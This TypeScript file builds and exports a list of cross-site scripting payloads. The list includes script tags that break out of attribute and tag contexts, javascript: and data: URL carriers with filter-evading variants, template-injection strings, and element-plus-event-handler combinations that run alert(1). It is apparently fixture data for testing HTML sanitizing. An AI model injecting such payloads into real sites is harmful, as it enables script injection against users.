const run = "alert(1)"

const events = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerenter",
  "onbeforeinput",
  "onscroll",
]

const elements = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "audio src=x",
  "iframe",
  "object data=x",
  "marquee",
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
]

const carriers = (address: string): readonly string[] => [
  `<a href="${address}">x</a>`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><button>x</button></form>`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
]

const whole = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/src=data:,${run}></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<style>@import "javascript:${run}";</style>`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  "{{constructor.constructor('alert(1)')()}}",
  `\${${run}}`,
  `{@html "<script>${run}</script>"}`,
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `\u202e<script>${run}</script>\u202c`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
]

/** Words that would run on a page that takes them for its own. */
export const payloads: readonly string[] = [
  ...whole,
  ...addresses.flatMap(carriers),
  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${run}>`)),
]
